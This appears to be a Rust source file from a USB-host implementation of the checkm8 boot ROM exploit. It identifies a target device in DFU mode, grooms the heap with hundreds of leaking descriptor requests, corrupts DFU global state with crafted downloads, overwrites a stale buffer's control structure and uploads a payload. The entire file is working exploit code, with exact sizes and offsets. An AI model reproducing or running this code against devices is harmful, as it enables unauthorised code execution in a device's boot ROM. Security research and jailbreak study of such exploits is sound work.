//! The checkm8 stages and the state machine running them.
//!
//! Every stage is a fixed sequence of control transfers. The sizes and
//! counts below drive the boot ROM's heap allocator into the state the
//! exploit depends on and must be reproduced exactly.

use crate::{
    usb::{DeviceEvent, HostStack, Sequencer},
    Payloads, Result, PACKET_SIZE, TARGET_PID, TARGET_VID,
};

/// Number of leaking string descriptor requests issued while grooming the heap.
pub const GROOM_ITERATIONS: usize = 620;

/// Padding in front of the last packet of the global state download.
///
/// Empirical value tied to the memory layout of the target boot ROM.
pub const GLOBAL_STATE_PADDING: usize = 0x540;

/// Filler byte for padding packets.
pub const SENTINEL: u8 = b'A';

const REQUEST_TYPE_STANDARD_OUT: u8 = 0x00;
const REQUEST_TYPE_STANDARD_IN: u8 = 0x80;
const REQUEST_TYPE_CLASS_OUT: u8 = 0x21;
const REQUEST_TYPE_CLASS_IN: u8 = 0xA1;

const GET_DESCRIPTOR: u8 = 6;
const DFU_DNLOAD: u8 = 1;
const DFU_GETSTATUS: u8 = 3;
const DFU_CLRSTATUS: u8 = 4;

/// `wValue` of a string descriptor request, the index goes in the low byte.
const STRING_DESCRIPTOR: u16 = 0x0300;
/// `wIndex` of the string descriptor requests.
const LANGUAGE_ID: u16 = 0x040A;

/// Lengths of the serial number requests. The first one leaks an
/// allocation on the device, the one byte longer request does not.
const LEAK_LENGTH: u16 = 0x80;
const NO_LEAK_LENGTH: u16 = 0x81;

const DFU_STATUS_LENGTH: u16 = 6;

/// The stages of the exploit, in the order they are executed.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum ExploitStage {
    GroomHeap,
    CorruptGlobalState,
    OccupyAndOverwrite,
    Done,
}

/// The work done for a stage.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StageAction {
    GroomHeap,
    CorruptGlobalState,
    OccupyAndOverwrite,
    /// Report completion and disarm the session.
    Finish,
}

impl ExploitStage {
    /// The stage every newly armed session starts in.
    pub const RESET: ExploitStage = ExploitStage::GroomHeap;

    /// Returns the action to execute in this stage and the stage following it.
    pub fn advance(self) -> (StageAction, ExploitStage) {
        match self {
            ExploitStage::GroomHeap => (StageAction::GroomHeap, ExploitStage::CorruptGlobalState),
            ExploitStage::CorruptGlobalState => (
                StageAction::CorruptGlobalState,
                ExploitStage::OccupyAndOverwrite,
            ),
            ExploitStage::OccupyAndOverwrite => {
                (StageAction::OccupyAndOverwrite, ExploitStage::Done)
            }
            ExploitStage::Done => (StageAction::Finish, ExploitStage::Done),
        }
    }
}

/// An armed target device.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DeviceSession {
    /// Address the transfers are sent to.
    pub address: u8,
    /// `iSerialNumber` of the device descriptor.
    pub serial_index: u8,
}

/// Runs the exploit stages against at most one device at a time.
pub struct Orchestrator {
    payloads: Payloads,
    session: Option<DeviceSession>,
    stage: ExploitStage,
    completed_runs: usize,
}

impl Orchestrator {
    pub fn new(payloads: Payloads) -> Self {
        Orchestrator {
            payloads,
            session: None,
            stage: ExploitStage::RESET,
            completed_runs: 0,
        }
    }

    pub fn stage(&self) -> ExploitStage {
        self.stage
    }

    pub fn session(&self) -> Option<DeviceSession> {
        self.session
    }

    pub fn is_armed(&self) -> bool {
        self.session.is_some()
    }

    /// Number of sessions which ran through all stages.
    pub fn completed_runs(&self) -> usize {
        self.completed_runs
    }

    /// Checks a newly attached device and arms a session if it is the target.
    ///
    /// Any session in progress is replaced and the stages start over.
    /// Returns whether a session was armed.
    pub fn on_attach<H: HostStack + ?Sized>(&mut self, host: &mut H, address: u8) -> Result<bool> {
        let descriptor = host.device_descriptor(address)?;
        if descriptor.vendor_id != TARGET_VID || descriptor.product_id != TARGET_PID {
            debug!(
                "Ignoring",
                "device {:04x}:{:04x} at address {}",
                descriptor.vendor_id,
                descriptor.product_id,
                address
            );
            return Ok(false);
        }

        ok!(
            "Found",
            "device in DFU mode at address {} (serial index {})",
            address,
            descriptor.serial_number_index
        );
        self.session = Some(DeviceSession {
            address,
            serial_index: descriptor.serial_number_index,
        });
        self.stage = ExploitStage::RESET;
        Ok(true)
    }

    /// Disarms the session. Addresses are not tracked, so any detach counts.
    pub fn on_detach(&mut self, address: u8) {
        if self.session.take().is_some() {
            warn!("Detached", "device at address {}, exploit aborted", address);
        }
    }

    /// Dispatches a notification, reporting devices which could not be identified.
    pub fn handle_event<H: HostStack + ?Sized>(&mut self, host: &mut H, event: DeviceEvent) {
        match event {
            DeviceEvent::Attached(address) => {
                if let Err(err) = self.on_attach(host, address) {
                    error!("Failed", "to identify device at address {}: {}", address, err);
                }
            }
            DeviceEvent::Detached(address) => self.on_detach(address),
        }
    }

    /// Executes the current stage to completion if a session is armed.
    pub fn tick<H: HostStack + ?Sized>(&mut self, host: &mut H) -> Option<StageAction> {
        let session = self.session?;
        let (action, next) = self.stage.advance();

        let mut seq = Sequencer::new(host, session.address);
        match action {
            StageAction::GroomHeap => groom_heap(&mut seq, session.serial_index),
            StageAction::CorruptGlobalState => corrupt_global_state(&mut seq),
            StageAction::OccupyAndOverwrite => {
                occupy_and_overwrite(&mut seq, session.serial_index, &self.payloads)
            }
            StageAction::Finish => {
                ok!("Done!", "payload injected into device at address {}", session.address);
                self.session = None;
                self.completed_runs += 1;
            }
        }
        // Whatever the host still holds back belongs to this stage.
        seq.flush();

        self.stage = next;
        Some(action)
    }
}

/// One scheduler iteration: pump the host, deliver the notifications
/// received since the last iteration, then run at most one stage.
pub fn run_tick<H: HostStack + ?Sized>(
    host: &mut H,
    orchestrator: &mut Orchestrator,
) -> Option<StageAction> {
    host.pump();
    while let Some(event) = host.poll_event() {
        orchestrator.handle_event(&mut *host, event);
    }
    orchestrator.tick(host)
}

fn request_serial_number<H: HostStack + ?Sized>(
    seq: &mut Sequencer<'_, H>,
    serial_index: u8,
    length: u16,
    buffer: &mut [u8],
) {
    seq.issue_setup(
        REQUEST_TYPE_STANDARD_IN,
        GET_DESCRIPTOR,
        STRING_DESCRIPTOR | serial_index as u16,
        LANGUAGE_ID,
        length,
    );
    seq.issue_data(buffer, length as usize);
}

fn groom_heap<H: HostStack + ?Sized>(seq: &mut Sequencer<'_, H>, serial_index: u8) {
    info!("Stage", "1. heap feng-shui");

    seq.issue_setup(REQUEST_TYPE_CLASS_OUT, DFU_CLRSTATUS, 0, 0, 0);
    seq.pump();

    let mut buffer = [0; NO_LEAK_LENGTH as usize];
    for _ in 0..GROOM_ITERATIONS {
        request_serial_number(seq, serial_index, LEAK_LENGTH, &mut buffer);
        seq.pump();
    }

    request_serial_number(seq, serial_index, NO_LEAK_LENGTH, &mut buffer);
    seq.pump();
}

fn corrupt_global_state<H: HostStack + ?Sized>(seq: &mut Sequencer<'_, H>) {
    info!("Stage", "2. set global state");

    // Two packets for a one packet download.
    let mut packet = [SENTINEL; PACKET_SIZE];
    seq.issue_setup(REQUEST_TYPE_CLASS_OUT, DFU_DNLOAD, 0, 0, PACKET_SIZE as u16);
    seq.issue_data(&mut packet, PACKET_SIZE);
    seq.issue_data(&mut packet, PACKET_SIZE);
    seq.pump();

    seq.issue_setup(REQUEST_TYPE_CLASS_OUT, DFU_DNLOAD, 0, 0, 0);
    seq.pump();

    let mut status = [0; DFU_STATUS_LENGTH as usize];
    for _ in 0..2 {
        seq.issue_setup(REQUEST_TYPE_CLASS_IN, DFU_GETSTATUS, 0, 0, DFU_STATUS_LENGTH);
        seq.issue_data(&mut status, DFU_STATUS_LENGTH as usize);
        seq.pump();
    }

    let length = GLOBAL_STATE_PADDING + PACKET_SIZE;
    let mut zeroes = [0; PACKET_SIZE];
    seq.issue_setup(REQUEST_TYPE_CLASS_OUT, DFU_DNLOAD, 0, 0, length as u16);
    for _ in 0..length / PACKET_SIZE {
        seq.issue_data(&mut zeroes, PACKET_SIZE);
        seq.pump();
    }
}

fn occupy_and_overwrite<H: HostStack + ?Sized>(
    seq: &mut Sequencer<'_, H>,
    serial_index: u8,
    payloads: &Payloads,
) {
    info!("Stage", "3. heap occupation");

    let mut buffer = [0; NO_LEAK_LENGTH as usize];
    request_serial_number(seq, serial_index, NO_LEAK_LENGTH, &mut buffer);
    seq.pump();

    // Corrupts the control structure behind the stale I/O buffer.
    let mut padding = [SENTINEL; PACKET_SIZE];
    let mut overwrite = payloads.overwrite_packet();
    seq.issue_setup(REQUEST_TYPE_STANDARD_OUT, 0, 0, 0, PACKET_SIZE as u16);
    seq.issue_data(&mut padding, PACKET_SIZE);
    seq.issue_data(&mut overwrite, PACKET_SIZE);
    seq.pump();

    let length = payloads.payload().len() as u16;
    seq.issue_setup(REQUEST_TYPE_CLASS_OUT, DFU_DNLOAD, 0, 0, length);
    seq.issue_data(&mut padding, PACKET_SIZE);

    let mut packet = [0; PACKET_SIZE];
    for chunk in payloads.payload_chunks() {
        packet[..chunk.len()].copy_from_slice(chunk);
        seq.issue_data(&mut packet, chunk.len());
        seq.pump();
    }
}
